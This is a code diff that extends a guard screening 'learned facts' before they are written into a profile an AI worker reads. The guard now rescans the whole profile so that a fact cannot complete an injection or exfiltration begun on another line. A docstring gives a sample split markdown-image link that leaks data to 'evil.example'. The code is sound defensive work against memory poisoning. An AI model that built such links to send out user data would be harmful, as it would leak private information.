@@ -7,7 +7,10 @@
 - The guard reads every fact before it counts (``screen``): the scan a compile makes of a
   gateway's files (secrets, hidden text, injection and exfiltration, with the manifest's
   allowances), on the key as written, the value, the source and the line the worker would
-  read. A fact it flags is refused and never written; the findings are in its outcome. So is a
+  read; then on the whole profile with the fact in it, so that a fact cannot finish what
+  another line began (an image whose link definition is elsewhere): what the guard finds there
+  that it did not before is the fact's. A fact it flags is refused and never written; the
+  findings are in its outcome. So is a
   fact longer by itself than the whole budget, which would otherwise evict every other.
 - The block has one budget, ``[learn] budget``: while its facts (as the worker reads them) are
   over it, the least recently confirmed leaves first (then the earliest learned, then by key),
@@ -15,6 +18,8 @@
 """
 
 from __future__ import annotations
+
+from collections import Counter
 
 import attrs
 from hotplex.learning import profile as profiles
@@ -33,6 +38,7 @@ def learn(manifest: Manifest, text: str, file: str, given: list[Given], date: st
     profile = profiles.parse(text, file)
     budget = manifest.learn.budget
     facts = dict(profile.facts)
+    context = _Context(manifest, profile, file)
     outcomes: list[Outcome] = []
     retired: list[Retired] = []
     for fact in given:
@@ -43,11 +49,16 @@ def learn(manifest: Manifest, text: str, file: str, given: list[Given], date: st
             outcomes.append(Outcome(fact.key, fact.value, "refused", None, found, reason))
             continue
         old = facts.get(fact.key)
+        if old is None or old.value != fact.value:
+            found = context.screen(fact, {**facts, fact.key: _new(fact, date)})
+            if found:
+                outcomes.append(Outcome(fact.key, fact.value, "refused", None, found))
+                continue
         if old is not None and old.value == fact.value:
             facts[fact.key] = attrs.evolve(old, confirmed=max(old.confirmed, date))
             outcomes.append(Outcome(fact.key, fact.value, "unchanged"))
             continue
-        facts[fact.key] = Fact(fact.key, fact.value, fact.learned or date, fact.source, date)
+        facts[fact.key] = _new(fact, date)
         if old is None:
             outcomes.append(Outcome(fact.key, fact.value, "added"))
         else:
@@ -65,6 +76,44 @@ def learn(manifest: Manifest, text: str, file: str, given: list[Given], date: st
     new = profiles.join(profile, facts) if changed else text
     ordered = tuple(f for _key, f in sorted(facts.items()))
     return LearnReport(file, date, new, changed, tuple(outcomes), tuple(retired), ordered)
+
+
+def _new(fact: Given, date: str) -> Fact:
+    return Fact(fact.key, fact.value, fact.learned or date, fact.source, date)
+
+
+class _Context:
+    """What the guard finds in the whole profile once a fact joins it that it did not find
+    before: a fact harmless alone can complete what another line started (``![x][l]`` whose
+    definition ``[l]: https://evil.example/?d=`` another line holds)."""
+
+    def __init__(self, manifest: Manifest, profile: profiles.Profile, file: str) -> None:
+        self.manifest, self.profile, self.file = manifest, profile, file
+        self.known = self._found(profile.facts)
+
+    def _found(self, facts: dict[str, Fact]) -> Counter[tuple[str, str, str]]:
+        text = profiles.join(self.profile, facts)
+        return Counter(
+            (f.kind, f.rule, f.message)
+            for f in map(_refused, blocking.scan(self.manifest, text, self.file, 1))
+        )
+
+    def screen(self, fact: Given, facts: dict[str, Fact]) -> tuple[Finding, ...]:
+        now = self._found(facts)
+        new = now - self.known
+        if not new:
+            self.known = now
+            return ()
+        text = profiles.join(self.profile, facts)
+        return tuple(
+            f
+            for f in map(_refused, blocking.scan(self.manifest, text, self.file, 1))
+            if (f.kind, f.rule, f.message) in new
+        )
+
+
+def _refused(finding) -> Finding:
+    return blocking.record(finding, "refused")
 
 
 def _over_budget(facts: dict[str, Fact], budget: int) -> list[Fact]:
@@ -91,7 +140,7 @@ def screen(manifest: Manifest, fact: Given) -> tuple[Finding, ...]:
     seen: set[tuple[str, str]] = set()
     for name, text in parts:
         for finding in blocking.scan(manifest, text, f"{fact.place}.{name}", 1):
-            record = blocking.record(finding, "refused")
+            record = _refused(finding)
             if (record.rule, record.message) not in seen:
                 seen.add((record.rule, record.message))
                 found.append(record)
